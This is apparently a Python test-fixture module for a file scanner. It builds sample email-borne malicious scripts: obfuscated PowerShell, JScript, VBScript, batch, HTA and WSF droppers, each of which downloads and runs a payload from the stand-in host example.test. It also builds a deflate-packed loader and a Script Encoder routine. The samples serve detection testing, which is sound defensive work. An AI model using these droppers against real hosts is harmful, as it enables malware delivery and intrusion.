"""Scripts in the shapes that come by mail; their addresses lead nowhere."""

from __future__ import annotations

import base64
import struct
import zlib

from fyke.files.scripts.encoded import _ALPHABETS, _ESCAPES, _TURNS

FETCH = "IEX (New-Object Net.WebClient).DownloadString('http://example.test/a.ps1')"
POWERSHELL = "powershell.exe -nop -w hidden -enc " + base64.b64encode(FETCH.encode("utf-16-le")).decode()
JS = (
    'var s = new ActiveXObject("MSX"+"ML2.XMLHTTP"); s.open("GET", "http://exa"+"mple.test/a.exe", false); s.send();'
    'var t = new ActiveXObject("ADODB.Stream"); t.SaveToFile("a.exe");'
    'new ActiveXObject("WScript.Sh"+"ell").Run("a.exe", 0, false);'
)
VBS = 'Set x = CreateObject("WScript" & Chr(46) & "Shell")\nx.Run "pow" & "ershell iwr http://example.test/x", 0, False'
BATCH = '@echo off\nset a=power\n%a%she^ll -c "i^wr http://example.test/a.exe -OutFile a.exe"\nstart a.exe\n'
HTA = (
    '<html><hta:application id=x><script language="VBScript">CreateObject("Wscript.Shell").Run '
    '"mshta http://example.test/x", 0</script></html>'
)
WSF = (
    '<job id="a"><script language="JScript">new ActiveXObject("WScript.Shell")'
    '.Run("cmd /c curl http://example.test/a -o b")</script></job>'
)


def deflated() -> str:
    """A PowerShell script that inflates the one it runs."""
    packed = zlib.compress(FETCH.encode() * 2)[2:-4]
    text = base64.b64encode(packed).decode()
    return f"IEX (New-Object IO.Compression.DeflateStream([Convert]::FromBase64String('{text}'), 0))"


def program() -> bytes:
    """The start of a Windows program, for what looks at no more."""
    return (b"MZ".ljust(60, b"\0") + struct.pack("<I", 64) + b"PE\0\0").ljust(400, b"\0")


def script_encoded(text: str) -> str:
    """A text as Microsoft's Script Encoder writes it; the check sum is not worked out."""
    back = [{char: chr(code) for code, char in alphabet.items()} for alphabet in _ALPHABETS]
    escapes = {char: f"@{sign}" for sign, char in _ESCAPES.items()}
    written = "".join(escapes.get(char) or back[int(_TURNS[at & 63])].get(char, char) for at, char in enumerate(text))
    length = base64.b64encode(struct.pack("<I", len(written))).decode()
    return f"#@~^{length}{written}AAAAAA==^#~@"
